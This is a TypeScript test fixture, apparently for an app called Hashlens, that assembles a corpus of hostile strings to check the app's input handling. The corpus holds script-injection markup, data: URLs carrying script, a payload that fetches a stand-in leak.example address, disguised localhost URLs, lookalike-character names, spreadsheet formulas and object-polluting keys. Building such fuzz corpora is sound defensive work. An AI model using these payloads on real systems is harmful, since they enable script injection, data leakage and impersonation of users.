import { texts } from '../hostile-values.ts';
import { giantTexts } from './giant.ts';
import { corpusTables as tables } from './tables.ts';
import { unseenTexts } from './unseen.ts';

/** The global variable that a payload sets in its own world if it ever runs. */
export const trapName = 'hostileRan';

const run = `${trapName}=1`;

/** JSON keys that break code which copies objects carelessly. */
export const hostileKeys: readonly string[] = tables.keys.map((key) => key.replaceAll('{run}', run));

/** Returns texts that are markup, or become markup when inserted into some. `leak` is the URL that they fetch. */
function markupTexts(leak: string): string[] {
  const fill = (text: string) =>
    text.replaceAll('{run}', run).replaceAll('{send}', `${run};fetch('${leak}')`).replaceAll('{leak}', leak);
  const handlers = tables.handlers.flatMap(([tag, attributes]) => [
    `<${tag} ${attributes}={run}>`,
    `"'><${tag} ${attributes}="{send}">`,
  ]);
  return [...handlers, ...tables.markup].map(fill);
}

/** Returns URLs that must never be opened, requested or shown as a link. `leak` is a URL with a listening server. */
function addressTexts(leak: string): string[] {
  const { host, port } = new URL(leak);
  return [
    ...tables.addresses.map((text) => text.replaceAll('{run}', run).replaceAll('{leak}', leak)),
    `data:text/html;base64,${btoa(`<script>${run}</script>`)}`,
    `data:image/svg+xml;base64,${btoa(`<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>`)}`,
    'data:image/png;base64,iVBORw0KGgo=',
    leak.replace('http:', 'https:'),
    leak.replace('http:', ''),
    leak.replace('http://', 'http:\\\\'),
    leak.replace('http://', 'https://etherscan.io@'),
    leak.replace('http://', 'https://name:password@'),
    `${leak.replace('http:', 'https:')}/x.png`,
    `http://[::ffff:127.0.0.1]:${port}/`,
    `http://2130706433:${port}/`,
    `http://0x7f000001:${port}/`,
    `http://localhost.:${port}/`,
    `//${host}`,
    `https://example.org/${'a'.repeat(3000)}`,
  ];
}

/** Returns names that imitate other names or Hashlens's own messages. */
function lookAlikeTexts(): string[] {
  const posing = Object.entries(tables.twins).flatMap(([latin, all]) =>
    all.flatMap((twin) => ['vitalik.eth 0x10dusdc hk'.replaceAll(latin, twin), `${latin}${twin} usdc`]),
  );
  return [...posing, ...tables.posing];
}

/** Returns texts that programs misread: spreadsheet formulas, queries, paths, headers, property names. */
function machineTexts(): string[] {
  const formulas = tables.openers.flatMap((opener) => tables.formulas.map((formula) => `${opener}${formula}`));
  return [...hostileKeys, ...formulas, ...tables.openers, ...tables.machine];
}

/**
 * Returns every hostile text once: markup, URLs, characters that reorder or hide text, imitations, texts that programs
 * misread, overlong ones, and the malformed ones of the fuzz. `leak` is an http URL with a port that the payloads
 * request.
 */
export function hostileCorpus(leak = 'http://leak.example:8080/leak'): readonly string[] {
  return [
    ...new Set([
      ...markupTexts(leak),
      ...addressTexts(leak),
      ...unseenTexts(),
      ...lookAlikeTexts(),
      ...machineTexts(),
      ...giantTexts(),
      ...texts,
    ]),
  ];
}
